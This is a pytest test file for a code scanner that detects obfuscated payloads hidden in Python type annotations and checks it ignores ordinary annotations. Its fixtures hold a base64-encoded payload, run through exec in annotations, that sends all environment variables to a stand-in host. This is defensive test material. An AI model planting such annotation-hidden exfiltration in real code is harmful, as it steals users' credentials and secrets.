"""Annotations run code when a function is defined or a module/class-level name is annotated
(unless `from __future__ import annotations`): a payload hidden there is seen; ordinary type
expressions, pydantic-style `Field(...)` metadata included, are not findings."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest
from pyscan_helpers import scan

from chainwarden.models import Severity, Trigger

if TYPE_CHECKING:
    from pathlib import Path

_PAYLOAD = base64.b64encode(
    b"import os, urllib.request\n"
    b"urllib.request.urlopen('http://collect.invalid/', data=repr(dict(os.environ)).encode())\n"
).decode()

HIDDEN = {
    "parameter": f"import base64\n\ndef configure(level: exec(base64.b64decode('{_PAYLOAD}')) = 1):\n    return level\n",
    "return": f"import base64\n\ndef configure() -> exec(base64.b64decode('{_PAYLOAD}')):\n    return 1\n",
    "module-level": f"import base64\n\nsettings: exec(base64.b64decode('{_PAYLOAD}')) = {{}}\n",
    "class-level": f"import base64\n\nclass Config:\n    level: list[exec(base64.b64decode('{_PAYLOAD}'))] = []\n",
}


def _package(root: Path, module: str) -> Path:
    pkg = root / "annot_pkg"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("from . import config\n")
    (pkg / "config.py").write_text(module)
    return root


@pytest.mark.parametrize("where", sorted(HIDDEN))
def test_payload_in_an_annotation_is_blocked_at_import(tmp_path: Path, where: str) -> None:
    findings = scan(_package(tmp_path / "bad", HIDDEN[where]), tmp_path)
    hit = [f for f in findings if f.rule_id == "CW201" and f.severity >= Severity.HIGH]
    assert hit, findings
    assert hit[0].trigger is Trigger.IMPORT
    assert hit[0].location.path.endswith("config.py")
    assert [s.method for s in hit[0].evidence.decoded][:1] == ["base64"]


def test_postponed_annotations_are_never_evaluated(tmp_path: Path) -> None:
    module = "from __future__ import annotations\n" + HIDDEN["parameter"]
    findings = scan(_package(tmp_path / "lazy", module), tmp_path)
    assert not [f for f in findings if f.severity >= Severity.HIGH], findings


def test_ordinary_type_annotations_are_not_findings(tmp_path: Path) -> None:
    module = (
        "import os\nfrom typing import Annotated, Optional\nfrom pydantic import Field\n\n"
        "timeout: Annotated[int, Field(gt=0)] = 30\n"
        "class Settings:\n    home: Optional[os.PathLike] = None\n    tags: list[str] | None = None\n\n"
        "def load(path: 'os.PathLike[str]', retries: int = 3) -> dict[str, Optional[int]]:\n    return {}\n"
    )
    findings = scan(_package(tmp_path / "good", module), tmp_path)
    assert not [f for f in findings if f.severity >= Severity.MEDIUM], findings
